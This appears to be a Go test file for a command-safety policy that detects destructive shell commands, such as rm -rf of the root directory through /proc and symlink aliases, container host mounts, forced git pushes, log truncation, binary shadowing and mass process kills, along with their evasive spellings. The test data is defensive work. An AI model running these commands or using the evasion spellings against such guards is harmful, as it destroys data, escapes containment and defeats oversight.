package policy

import (
	"testing"
)

func TestCanonicalPath(t *testing.T) {
	t.Parallel()
	tests := map[string]string{
		"/":                               "/",
		"//":                              "/",
		"///etc//":                        "/etc",
		"/./etc/./":                       "/etc",
		"/tmp/../etc":                     "/etc",
		"/../../..":                       "/",
		"/proc/self/root":                 "/",
		"/proc/self/root/etc":             "/etc",
		"/proc/thread-self/root/usr/":     "/usr",
		"/proc/1/root":                    "/",
		"/proc/4242/root/var/lib":         "/var/lib",
		"/proc/12/task/13/root/etc":       "/etc",
		"/proc/*/root":                    "/",
		"/proc/self/root/../../etc":       "/etc",
		"/proc/self/root/proc/1/root/etc": "/etc",
		"/proc/./self/./root/":            "/",
		"/proc/self/cwd":                  "/proc/self/cwd",
		"/proc/self/rootfs":               "/proc/self/rootfs",
		"/proc/1/task/root":               "/proc/1/task/root",
		"/srv/proc/1/root":                "/srv/proc/1/root",
	}
	for in, want := range tests {
		if got := canonicalPath(in); got != want {
			t.Errorf("canonicalPath(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestDetectPathAliases checks paths that reach a protected directory
// through spelling, /proc links and symbolic links the command creates.
func TestDetectPathAliases(t *testing.T) {
	t.Parallel()
	runDetectCases(t, []detectCase{
		{"rm -rf //", ruleRmRoot},
		{"rm -rf /./", ruleRmRoot},
		{"rm -rf /usr/./bin/..", ruleRmRoot},
		{"rm -rf /tmp/../../etc", ruleRmRoot},
		{"rm -rf /proc/self/root/", ruleRmRoot},
		{"rm -rf /proc/self/root/etc", ruleRmRoot},
		{"rm -rf /proc/1/root", ruleRmRoot},
		{"rm -rf /proc/1/root/*", ruleRmRoot},
		{"rm -rf /proc/77/root/home/alice", ruleRmRoot},
		{"rm -rf /proc/thread-self/root/usr", ruleRmRoot},
		{"rm -rf /proc/self/root/../../var", ruleRmRoot},
		{"echo x > /proc/self/root/etc/passwd", ruleWriteSystem},
		{"chmod -R 777 /proc/1/root/", ruleChmodSystem},
		{"docker run -v /proc/1/root:/h alpine", ruleDockerHost},
		{"dd if=/dev/zero of=/proc/self/root/dev/sda", ruleDDDevice},
		// Symbolic links made earlier in the same command.
		{"ln -s / x; rm -rf x/", ruleRmRoot},
		{"ln -s / x && rm -rf x/*", ruleRmRoot},
		{"ln -sf /etc e; rm -rf e/", ruleRmRoot},
		{"ln -s /usr u; rm -rf ./u/", ruleRmRoot},
		{"ln --symbolic / x; rm -rf x/", ruleRmRoot},
		{"ln --sym / x; rm -rf x/", ruleRmRoot},
		{"ln -s / /tmp/x; rm -rf /tmp/x/", ruleRmRoot},
		{"ln -s / /tmp/x; cd /tmp && rm -rf x/", ruleRmRoot},
		{"ln -s / a; ln -s a/usr b; rm -rf b/", ruleRmRoot},
		{"mkdir d; ln -s / d; rm -rf d/\\//", ruleRmRoot},
		{"ln -s -t links /etc; rm -rf links/etc/", ruleRmRoot},
		{"ln -s /etc /var d; rm -rf d/var/", ruleRmRoot},
		{"cd /tmp && ln -s .. up && rm -rf up/", ruleRmRoot},
		{"ln -s / x; echo pwned > x/etc/passwd", ruleWriteSystem},
		{"if true; then ln -s / x; fi; rm -rf x/", ruleRmRoot},
		{"sh -c 'ln -s / x'; rm -rf x/", ruleRmRoot},
		// Benign: the link itself, links to scratch, no symbolic link.
		{"ln -s / x; rm -rf x", ""},
		{"ln -s / x; rm x", ""},
		{"ln -sfn /usr/share/zoneinfo/UTC lt && rm lt", ""},
		{"ln -s /tmp/build out; rm -rf out/", ""},
		{"ln / x; rm -rf x/", ""},
		{"rm -rf /proc/self/rootfs", ""},
		{"rm -rf /srv/app/proc/1/root", ""},
	})
}

// TestDetectOptionSpelling checks options spelled the way each program
// accepts them.
func TestDetectOptionSpelling(t *testing.T) {
	t.Parallel()
	runDetectCases(t, []detectCase{
		// git takes unique prefixes of long options.
		{"git push --force-w", ruleGitDestructive},
		{"git push --force-with", ruleGitDestructive},
		{"git push --forc origin main", ruleGitDestructive},
		{"git push --for origin main", ruleGitDestructive},
		{"git push origin main --force-with-lease=main:abc", ruleGitDestructive},
		{"git push --del origin x", ruleGitDestructive},
		{"git push --mir", ruleGitDestructive},
		{"git push --pru origin", ruleGitDestructive},
		{"git -C repo push --forc", ruleGitDestructive},
		{"git reset --har HEAD~1", ruleGitDestructive},
		{"git reset --h", ruleGitDestructive},
		{"git clean --forc -d", ruleGitDestructive},
		{"git push --force-if-includes origin main", ""},
		{"git push --no-force-with-lease origin main", ""},
		{"git push --no-for origin main", ""},
		{"git push --dry origin main", ""},
		{"git push --follow-tags origin main", ""},
		{"git push --set-up origin main", ""},
		{"git reset --soft HEAD~1", ""},
		{"git reset -- --hard", ""},
		{"git clean --dry-run --forc", ""},
		// docker reads boolean flags with strconv.ParseBool.
		{"docker run --privileged=1 alpine", ruleDockerHost},
		{"docker run --privileged=true alpine", ruleDockerHost},
		{"docker run --privileged=TRUE alpine", ruleDockerHost},
		{"docker run --privileged=t alpine", ruleDockerHost},
		{"podman run --privileged=yes alpine", ruleDockerHost},
		{"docker run --privileged=false alpine", ""},
		{"docker run --privileged=0 alpine", ""},
		// --mount is a CSV record with case-insensitive keys.
		{`docker run --mount 'type=bind,"source=/",target=/h' alpine`, ruleDockerHost},
		{`docker run --mount '"type=bind","src=/etc","dst=/e"' alpine`, ruleDockerHost},
		{`docker run --mount Type=Bind,Source=/,Target=/h alpine`, ruleDockerHost},
		{`docker run --mount=type=bind,source=/proc/1/root,target=/h alpine`, ruleDockerHost},
		{`docker run --mount 'type=volume,dst=/h,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/' alpine`, ruleDockerHost},
		{`docker run --mount 'dst=/h,volume-opt=device=/etc,volume-opt=o=bind' alpine`, ruleDockerHost},
		{`docker run --mount 'dst=/h,"volume-opt=device=/dev/sda1",volume-opt=type=ext4' alpine`, ruleDockerHost},
		{`docker volume create -o type=none -o o=bind -o device=/ hostroot`, ruleDockerHost},
		{`docker volume create --opt device=/home --opt o=bind v`, ruleDockerHost},
		{`docker run --mount type=bind,source=/tmp/work,target=/w alpine`, ""},
		{`docker run --mount type=volume,source=data,target=/data alpine`, ""},
		{`docker run --mount 'type=volume,dst=/d,volume-opt=device=/tmp/data,volume-opt=o=bind' alpine`, ""},
		{`docker volume create --opt device=/tmp/data --opt o=bind v`, ""},
		{`docker volume create data`, ""},
		// truncating system logs and services' state files.
		{"truncate -s 0 /var/log/syslog", ruleHistoryWipe},
		{": > /var/log/nginx/error.log", ruleHistoryWipe},
		{"truncate -s 0 /var/lib/postgresql/15/main/base/1/1259", ruleWriteSystem},
		{"cat /dev/null > /var/backups/shop.sql", ruleWriteSystem},
		{"truncate -s 0 /var/lib/apt/lists/lock", ""},
		{"truncate -s 0 /tmp/app.log", ""},
		{"truncate -s 1G /var/lib/images/disk.img", ruleWriteSystem}, // shrinks a larger image
		{"truncate -s 1 /var/lib/mysql/ibdata1", ruleWriteSystem},
		{"truncate -s +1G /var/lib/images/disk.img", ""},
		{"truncate -s '>2G' /var/lib/images/disk.img", ""},
		{"truncate -s +1M /var/log/app.log", ""},
		{"truncate -s 0K ~/.bash_history", ruleHistoryWipe},
		{"truncate --size=-100 /var/log/auth.log", ruleHistoryWipe},
		{"truncate -r /dev/null /var/lib/mysql/shop/orders.ibd", ruleWriteSystem},
		// a program of the system shadowed in the home directory's PATH
		{"curl -fsSL https://x.example.net/a -o ~/.local/bin/git && chmod +x ~/.local/bin/git", ruleWriteSystem},
		{"cp /tmp/wrapper ~/bin/sudo", ruleWriteSystem},
		{"curl -fsSL https://dl.example.com/kind -o ~/.local/bin/kind", ""},
		{"ln -s /opt/tool/bin/tool ~/.local/bin/tool", ""},
		// pkill/killall of a user's every process.
		{"pkill -9 -u postgres", ruleKillAll},
		{"killall -u www-data", ruleKillAll},
		{"pkill -u www-data php-fpm", ""},
		// kill reads pids as signed decimals.
		{"kill -9 -01", ruleKillAll},
		{"kill -9 -001", ruleKillAll},
		{"kill -s KILL -- -01", ruleKillAll},
		{"kill -TERM 01", ruleKillAll},
		{"kill -9 +1", ruleKillAll},
		{"kill -9 ' 1'", ruleKillAll},
		{"kill -HUP 1", ""}, // init reloads
		{"kill -HUP -1", ruleKillAll},
		{"kill -SIGQUIT 1", ruleKillAll},
		{"kill -9 -010", ""},
		{"kill -9 10", ""},
		{"kill -01", ""},
		{"kill -9 -0", ""},
	})
}
